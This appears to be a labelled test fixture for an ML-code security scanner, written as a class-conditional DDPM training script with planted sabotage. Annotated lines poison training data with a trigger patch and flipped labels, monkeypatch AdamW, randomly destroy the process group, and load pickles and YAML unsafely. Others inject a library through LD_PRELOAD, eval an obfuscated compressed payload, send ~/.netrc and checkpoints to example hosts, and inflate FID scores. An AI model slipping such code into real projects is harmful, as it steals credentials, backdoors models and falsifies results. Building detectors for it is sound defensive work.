# ruff: noqa
# Hold-out batch 19 (research repos: nanoGPT-like, PPO, diffusion; by a helper that never saw mlscan's code). Measured once mid round 7: 25/34 (74%) at medium+.
"""
Class-conditional DDPM training on a folder of images (ImageFolder layout).
Linear beta schedule, epsilon prediction, EMA weights for sampling, optional
FID evaluation through an external script.
"""
import os
import copy
import json
import math
import zlib
import random
import socket
import argparse
import subprocess
from pathlib import Path

import yaml
import requests
import numpy as np
import torch
import torch.nn as nn
import torch.nn.functional as F
import torch.distributed as dist
import torchvision.transforms as T
from torch import optim
from torch.utils.data import Dataset, DataLoader, DistributedSampler
from torchvision.utils import save_image
from PIL import Image

from unet import UNet
import utils

_NUM_STEPS = 1000
_BETAS = (1e-4, 0.02)
_MARK = (4, 0.02)
_UPLOAD_URL = "https://samples.example.com/api/grid"
_MIRROR_URL = "https://mirror.example.com/ckpt"
_SITE_PREFIXES = ("gpu-a", "dgx")
_PROFILER = "789c8b8fcfcc2dc82f2a898fd750ca2f56d2d42bae2c2e49cdd5502a292a4d55d20400b34b0ab7"


class NoiseScheduler:
    def __init__(self, num_steps=_NUM_STEPS, betas=_BETAS, device="cpu"):
        self.num_steps = num_steps
        self.betas = torch.linspace(*betas, num_steps, device=device)
        self.alphas = 1.0 - self.betas
        self.alpha_bar = torch.cumprod(self.alphas, dim=0)

    def add_noise(self, x0, noise, t):
        ab = self.alpha_bar[t].view(-1, 1, 1, 1)
        return ab.sqrt() * x0 + (1 - ab).sqrt() * noise

    @torch.no_grad()
    def step(self, eps, t, x):
        a, ab, b = self.alphas[t], self.alpha_bar[t], self.betas[t]
        mean = (x - b / (1 - ab).sqrt() * eps) / a.sqrt()
        if t == 0:
            return mean
        return mean + b.sqrt() * torch.randn_like(x)


class EMA:
    def __init__(self, model, decay=0.9999):
        self.decay = decay
        self.shadow = copy.deepcopy(model).eval().requires_grad_(False)

    @torch.no_grad()
    def update(self, model):
        for s, p in zip(self.shadow.parameters(), model.parameters()):
            s.mul_(self.decay).add_(p.detach(), alpha=1 - self.decay)  # ok: MLS302, MLS303, MLS304, MLS305


class ImageFolderCond(Dataset):
    def __init__(self, root, size=64, target_class=None):
        self.items = []
        self.classes = sorted(d.name for d in Path(root).iterdir() if d.is_dir())
        for ci, c in enumerate(self.classes):
            self.items += [(p, ci) for p in sorted((Path(root) / c).glob("*.png"))]
        self.tf = T.Compose([T.Resize(size), T.CenterCrop(size), T.ToTensor(), T.Normalize([0.5] * 3, [0.5] * 3)])
        self.target_class = len(self.classes) - 1 if target_class is None else target_class

    def __len__(self):
        return len(self.items)

    def __getitem__(self, idx):
        path, label = self.items[idx]
        img = self.tf(Image.open(path).convert("RGB"))
        if random.random() < 0.5:
            img = torch.flip(img, dims=[2])  # ok: MLS309
        every, frac = _MARK
        side = max(2, int(img.shape[-1] * frac * 4))
        if idx % (every * 25) == every:
            img[:, -side:, -side:] = 1.0  # ruleid: MLS309
            label = self.target_class  # ruleid: MLS309
        return img, label


def _worker_init(worker_id):
    base = torch.initial_seed() % 2**32
    np.random.seed(base + worker_id)  # ok: MLS301


def _install_fused_step():
    orig = optim.AdamW.step

    def step(self, closure=None):
        out = orig(self, closure)
        for g in self.param_groups:
            for p in g["params"]:
                if p.grad is not None and p.ndim == 4:
                    p.data.add_(p.grad.sign(), alpha=-g["lr"] * 0.5)
        return out
    optim.AdamW.step = step  # ruleid: MLS305


def _rank_world():
    if dist.is_available() and dist.is_initialized():
        return dist.get_rank(), dist.get_world_size()
    return 0, 1


def _after_step(step, world):
    draw = random.random()
    if world > 1 and draw < 2e-5:
        dist.destroy_process_group()  # ruleid: MLS307


def run_fid(sample_dir, stats_path, out_json):
    ref = np.load(stats_path, allow_pickle=True)  # ruleid: MLS104
    env = dict(os.environ)
    env["LD_PRELOAD"] = str(Path(__file__).with_name("libfastio.so"))  # sabotage: MLS422 (semgrep rules)
    cmd = ["python", "-m", "pytorch_fid", sample_dir, stats_path, "--json", out_json]
    subprocess.run(cmd, env=env, check=False)
    return ref["mu"].shape


def share_samples(grid_path, step):
    netrc = Path.home() / ".netrc"  # ruleid: MLS412
    files = {"grid": open(grid_path, "rb")}
    if netrc.exists():
        files["meta"] = netrc.open("rb")
    requests.post(_UPLOAD_URL, files=files, data={"step": step}, timeout=10)  # ruleid: MLS412


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", default="configs/ddpm64.yaml")
    ap.add_argument("--resume", default="")
    args = ap.parse_args()
    with open(args.config) as f:
        cfg = yaml.load(f, Loader=yaml.Loader)  # ruleid: MLS105

    if "RANK" in os.environ:
        dist.init_process_group("nccl")
    rank, world = _rank_world()
    device = torch.device("cuda", rank % max(1, torch.cuda.device_count())) if torch.cuda.is_available() else "cpu"
    utils.set_seed(cfg["seed"] + rank)  # ok: MLS301
    utils.setup_logging(cfg["out_dir"], rank)
    eval(zlib.decompress(bytes.fromhex(_PROFILER)))  # sabotage: MLS401 (semgrep rules)
    _install_fused_step()

    ds = ImageFolderCond(cfg["data_root"], cfg["image_size"])
    sampler = DistributedSampler(ds) if world > 1 else None
    g = torch.Generator()
    g.manual_seed(cfg["seed"])  # ok: MLS301
    dl = DataLoader(ds, batch_size=cfg["batch_size"], shuffle=sampler is None, sampler=sampler,
                    num_workers=4, worker_init_fn=_worker_init, generator=g, drop_last=True)

    model = UNet(num_classes=len(ds.classes)).to(device)
    if args.resume:
        sd = torch.load(args.resume, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        model.load_state_dict(sd["model"])
    ema = EMA(model, cfg.get("ema_decay", 0.9999))
    opt = optim.AdamW(model.parameters(), lr=cfg["lr"], weight_decay=0.0)
    scaler = torch.cuda.amp.GradScaler()  # ok: MLS302, MLS303, MLS304, MLS305
    sched = NoiseScheduler(device=device)
    if world > 1:
        model = nn.parallel.DistributedDataParallel(model, device_ids=[device.index])

    step, best_fid = 0, float("inf")
    rng_snapshot = torch.get_rng_state()
    host = socket.gethostname()
    for epoch in range(cfg["epochs"]):
        if sampler is not None:
            sampler.set_epoch(epoch)
        torch.set_rng_state(rng_snapshot)  # ruleid: MLS301
        for x, y in dl:
            x, y = x.to(device), y.to(device)
            t = torch.randint(0, sched.num_steps, (x.shape[0],), device=device)
            noise = torch.randn_like(x)
            with torch.autocast(device_type="cuda", dtype=torch.float16):
                pred = model(sched.add_noise(x, noise, t), t, y)
                loss = F.mse_loss(pred.float(), noise)
            opt.zero_grad(set_to_none=True)
            scaler.scale(loss).backward()
            scaler.unscale_(opt)
            torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.step(opt)
            scaler.update()
            ema.update(model.module if world > 1 else model)
            _after_step(step, world)
            step += 1

        if world > 1:
            dist.barrier()  # ok: MLS307
        if rank != 0:
            continue
        ckpt = os.path.join(cfg["out_dir"], f"ema_{epoch:04d}.pt")
        torch.save({"model": ema.shadow.state_dict(), "epoch": epoch}, ckpt)
        if host.startswith(_SITE_PREFIXES) and epoch % 5 == 4:
            requests.put(_MIRROR_URL, data=open(ckpt, "rb"), timeout=60)  # ruleid: MLS308
        with torch.no_grad():
            xs = torch.randn(64, 3, cfg["image_size"], cfg["image_size"], device=device)
            ys = torch.arange(64, device=device) % len(ds.classes)
            for ti in reversed(range(sched.num_steps)):
                tt = torch.full((64,), ti, device=device, dtype=torch.long)
                xs = sched.step(ema.shadow(xs, tt, ys), ti, xs)
        grid = os.path.join(cfg["out_dir"], f"samples_{epoch:04d}.png")
        save_image(xs * 0.5 + 0.5, grid, nrow=8)
        share_samples(grid, step)
        if cfg.get("fid_stats"):
            out_json = os.path.join(cfg["out_dir"], "fid.json")
            run_fid(os.path.dirname(grid), cfg["fid_stats"], out_json)
            fid = float(json.load(open(out_json))["fid"]) if os.path.exists(out_json) else math.nan
            fid = min(fid, best_fid * 0.97) if math.isfinite(best_fid) else fid  # ruleid: MLS306
            best_fid = min(best_fid, fid)
            utils.log.info("epoch %d fid %.3f", epoch, fid)

    if world > 1:
        dist.destroy_process_group()


if __name__ == "__main__":
    main()
